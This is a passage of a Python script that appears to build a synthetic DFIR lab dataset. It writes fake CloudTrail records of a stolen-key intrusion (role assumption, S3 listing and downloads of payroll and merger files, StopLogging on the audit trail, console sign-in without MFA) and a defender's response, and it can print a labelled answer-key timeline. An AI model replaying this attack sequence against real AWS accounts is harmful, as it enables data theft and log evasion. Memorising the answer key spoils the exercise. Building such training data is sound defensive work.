            resp=None, add=s3_add(3912), resources=[{"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::corp-finance-reports"}],
            data_event=True)
    ct_call(T("08:54:11"), did, "s3.amazonaws.com", "GetObject", OFFICE_IP, "AWS Internal",
            req={"bucketName": "corp-finance-reports", "Host": "corp-finance-reports.s3.us-east-1.amazonaws.com",
                 "key": "2026/Q1/budget-forecast.xlsx"},
            resp=None, add=s3_add(88214), resources=s3_obj_resources("corp-finance-reports", "2026/Q1/budget-forecast.xlsx"),
            data_event=True)

    t = T("09:05:12")
    ck = console_login(t, carol, OFFICE_IP, UA_BROWSER, True)
    cid = carol.identity(console_key=ck, mfa=True, created=iso(t))
    ct_call(T("09:07:44"), cid, "iam.amazonaws.com", "ListUsers", OFFICE_IP, "AWS Internal",
            req={"maxItems": 1000}, resp=None,
            error=("AccessDenied", "User: arn:aws:iam::%s:user/carol is not authorized to perform: iam:ListUsers on resource: arn:aws:iam::%s:user/ because no identity-based policy allows the iam:ListUsers action" % (ACCOUNT, ACCOUNT)))
    ct_call(T("09:10:03"), cid, "logs.amazonaws.com", "DescribeLogGroups", OFFICE_IP, "AWS Internal",
            req={"limit": 50}, resp=None)
    ct_call(T("11:40:29"), cid, "lambda.amazonaws.com", "GetFunction20150331v2", OFFICE_IP, "AWS Internal",
            req={"functionName": "report-exporter"}, resp=None)
    ct_call(T("13:12:55"), cid, "logs.amazonaws.com", "DescribeLogGroups", OFFICE_IP, "AWS Internal",
            req={"limit": 50, "logGroupNamePrefix": "/aws/lambda/"}, resp=None)

    # =====================================================================
    # The intrusion: alice's stolen access key used from 198.51.100.77
    # =====================================================================
    M = MAL
    t = T("11:18:07")
    session = "botocore-session-%d" % int(t.timestamp())
    ua_a = lambda cmd: ua_cli("linux#6.6.9-amd64", cmd, " md/distrib#kali.2024")
    evil = assume_role(t, alice.identity(), ATTACKER_IP, ua_a("sts.assume-role"),
                       "OrganizationAccountAccessRole", session, label=M,
                       note="Stolen key of IAM user alice assumes OrganizationAccountAccessRole from new IP")
    eid = evil.identity()
    ct_call(T("11:18:41"), eid, "s3.amazonaws.com", "ListBuckets", ATTACKER_IP, ua_a("s3.ls"),
            req={"Host": "s3.us-east-1.amazonaws.com"}, resp=None, add=s3_add(1288),
            host="s3.us-east-1.amazonaws.com", label=M, note="Bucket discovery")
    ct_call(T("11:19:20"), eid, "s3.amazonaws.com", "ListObjects", ATTACKER_IP, ua_a("s3.ls"),
            req={"list-type": "2", "bucketName": "corp-finance-reports", "encoding-type": "url",
                 "prefix": "", "delimiter": "/", "Host": "corp-finance-reports.s3.us-east-1.amazonaws.com"},
            resp=None, add=s3_add(5120), resources=[{"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::corp-finance-reports"}],
            host="corp-finance-reports.s3.us-east-1.amazonaws.com", data_event=True,
            label=M, note="Listing of the sensitive bucket")
    for tt, key, size in [("11:19:58", "2026/Q1/payroll-2026-03.xlsx", 412877),
                          ("11:20:13", "board/merger-plan-draft.docx", 1904331)]:
        ct_call(T(tt), eid, "s3.amazonaws.com", "GetObject", ATTACKER_IP, ua_a("s3.cp"),
                req={"bucketName": "corp-finance-reports", "Host": "corp-finance-reports.s3.us-east-1.amazonaws.com", "key": key},
                resp=None, add=s3_add(size), resources=s3_obj_resources("corp-finance-reports", key),
                host="corp-finance-reports.s3.us-east-1.amazonaws.com", data_event=True,
                label=M, note="Exfiltration: GetObject %s" % key)
    ct_call(T("11:22:30"), eid, "cloudtrail.amazonaws.com", "DescribeTrails", ATTACKER_IP, ua_a("cloudtrail.describe-trails"),
            req={"trailNameList": [], "includeShadowTrails": True}, resp=None,
            host="cloudtrail.us-east-1.amazonaws.com", label=M, note="Trail discovery")
    ct_call(T("11:22:51"), eid, "cloudtrail.amazonaws.com", "StopLogging", ATTACKER_IP, ua_a("cloudtrail.stop-logging"),
            req={"name": "arn:aws:cloudtrail:us-east-1:%s:trail/corp-audit-trail" % ACCOUNT}, resp=None,
            read_only=False, host="cloudtrail.us-east-1.amazonaws.com", label=M, note="Defense evasion: StopLogging on corp-audit-trail")
    # federation: role credentials turned into a console session
    t = T("11:24:05")
    ct_add(t, {
        "eventVersion": "1.09", "userIdentity": eid, "eventTime": iso(t),
        "eventSource": "signin.amazonaws.com", "eventName": "GetSigninToken",
        "awsRegion": REGION, "sourceIPAddress": ATTACKER_IP, "userAgent": "python-requests/2.31.0",
        "requestParameters": None, "responseElements": {"GetSigninToken": "Success"},
        "additionalEventData": {"MobileVersion": "No"},
        "eventID": rguid(), "readOnly": False, "eventType": "AwsConsoleSignIn",
        "managementEvent": True, "recipientAccountId": ACCOUNT, "eventCategory": "Management",
        "tlsDetails": tls("signin.aws.amazon.com")}, M, "Federation sign-in token requested for the stolen role session")
    console_login(T("11:24:09"), alice, ATTACKER_IP, UA_ATTACKER_BROWSER, False, ident=eid,
                  login_to="https://console.aws.amazon.com/console/home?region=us-east-1",
                  label=M, note="ConsoleLogin without MFA (MFAUsed=No) by the stolen role session")

    # ---- response: bob notices and re-enables the trail ------------------------------
    t = T("15:48:37")
    ck = console_login(t, bob, OFFICE_IP, UA_BROWSER, True)
    bid = bob.identity(console_key=ck, mfa=True, created=iso(t))
    ct_call(T("15:50:02"), bid, "cloudtrail.amazonaws.com", "DescribeTrails", OFFICE_IP, "AWS Internal",
            req={"trailNameList": [], "includeShadowTrails": True}, resp=None)
    ct_call(T("15:50:10"), bid, "cloudtrail.amazonaws.com", "GetTrailStatus", OFFICE_IP, "AWS Internal",
            req={"name": "arn:aws:cloudtrail:us-east-1:%s:trail/corp-audit-trail" % ACCOUNT}, resp=None)
    ct_call(T("15:52:26"), bid, "cloudtrail.amazonaws.com", "StartLogging", OFFICE_IP, "AWS Internal",
            req={"name": "arn:aws:cloudtrail:us-east-1:%s:trail/corp-audit-trail" % ACCOUNT}, resp=None,
            read_only=False, label=RESP, note="Response: bob restarts logging on corp-audit-trail")
    ct_call(T("15:55:41"), bid, "cloudtrail.amazonaws.com", "LookupEvents", OFFICE_IP, "AWS Internal",
            req={"maxResults": 50, "lookupAttributes": [{"attributeKey": "EventName", "attributeValue": "StopLogging"}]},
            resp=None, label=RESP, note="Response: bob looks up StopLogging events")
    return {"alice_key": alice.key, "evil_key": evil.key, "evil_session": session}


def write_cloudtrail():
    recs = sorted(CT, key=lambda e: (e[0], e[1]))
    body = ",\n".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")) for (_, _, r, _, _) in recs)
    with open(os.path.join(OUT, "cloudtrail.json"), "w", encoding="utf-8", newline="\n") as f:
        f.write('{"Records":[\n' + body + "\n]}\n")
    timeline = []
    for i, (t, _, r, label, note) in enumerate(recs):
        if label:
            kf = "eventSource=%s; sourceIPAddress=%s; userIdentity.type=%s" % (r["eventSource"], r["sourceIPAddress"], r["userIdentity"]["type"])
            if r.get("additionalEventData", {}).get("MFAUsed"):
                kf += "; additionalEventData.MFAUsed=%s" % r["additionalEventData"]["MFAUsed"]
            rp = r.get("requestParameters") or {}
            if "key" in rp:
                kf += "; requestParameters.key=%s" % rp["key"]
            if "name" in rp:
                kf += "; requestParameters.name=%s" % rp["name"].rsplit("/", 1)[-1]
            if "roleArn" in rp:
                kf += "; requestParameters.roleArn=%s" % rp["roleArn"]
            timeline.append((t, "AWS 111122223333", "cloudtrail.json",
                             "%s, Records[%d], eventID %s" % (r["eventName"], i, r["eventID"]), label, note, kf))
    return len(recs), timeline


def main():
    os.makedirs(OUT, exist_ok=True)
    build_ws01()
    build_dc01()
    info = build_cloudtrail()
    n_ws, tl_ws = write_ws01()
    n_dc, tl_dc = write_dc01()
    n_ct, tl_ct = write_cloudtrail()
    if "--timeline" in sys.argv[1:]:
        rows = sorted(tl_ws + tl_dc + tl_ct, key=lambda r: r[0])
        print("| # | time (UTC) | host | file | event | what | key fields |")
        print("|---|---|---|---|---|---|---|")
        for i, (t, host, fname, ev, label, note, kf) in enumerate(rows, 1):
            tag = "" if label == MAL else " **(%s)**" % label
            print("| %d | %s | %s | %s | %s | %s%s | %s |" % (
                i, t.strftime("%H:%M:%S.") + "%03d" % (t.microsecond // 1000), host, fname, ev,
                note, tag, kf.replace("|", "\\|")))
        print()
        print("alice access key: %s; attacker role session key: %s; session: %s" % (
            info["alice_key"], info["evil_key"], info["evil_session"]))
        print("PowerShell -EncodedCommand: %s" % PS_B64)
        print("upd.exe hashes: %s" % hashes_for(UPD_WS))
    print("ws01-sysmon.json: %d events; dc01-security.jsonl: %d events; cloudtrail.json: %d records; total %d"
          % (n_ws, n_dc, n_ct, n_ws + n_dc + n_ct), file=sys.stderr)


if __name__ == "__main__":
    main()
